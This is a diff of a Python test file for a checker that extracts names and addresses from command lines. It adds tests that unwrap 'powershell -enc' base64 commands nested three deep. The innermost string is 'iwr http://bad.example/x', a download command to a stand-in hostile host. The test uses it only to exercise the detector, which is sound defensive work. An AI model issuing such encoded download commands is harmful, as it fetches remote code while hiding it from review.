@@ -1,10 +1,11 @@
 """Which names and addresses stand in a command line, and what only looks like one."""
 
+import base64
 import time
 
 import pytest
 
-from orchestrator.checks.texts import addresses_in, names_in
+from orchestrator.checks.mentions import addresses_in, decoded, names_in
 
 
 @pytest.mark.parametrize(
@@ -49,3 +50,27 @@ def test_a_hostile_text_costs_little(text: str):
     names_in(text)
     addresses_in(text)
     assert time.process_time() - began < 2
+
+
+def packed(text: str) -> str:
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+def test_commands_one_inside_another_are_undone_three_deep():
+    texts = ["iwr http://bad.example/x"]
+    for _ in range(4):
+        texts.append(f"powershell -enc {packed(texts[-1])}")
+    assert list(decoded(texts[4])) == texts[3:0:-1]
+    assert list(decoded(texts[3])) == texts[2::-1]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "tool -export QUJDREVGR0hJSktMTU5PUA==",  # no beginning of the option
+        "powershell -enc QUJDREVGR0hJSktMTU5PUAA",  # an odd number of bytes
+        "powershell -enc QUJDREVGR0hJSktMTU5PU",  # no base64
+    ],
+)
+def test_what_powershell_would_not_undo_is_left(text: str):
+    assert list(decoded(text)) == []
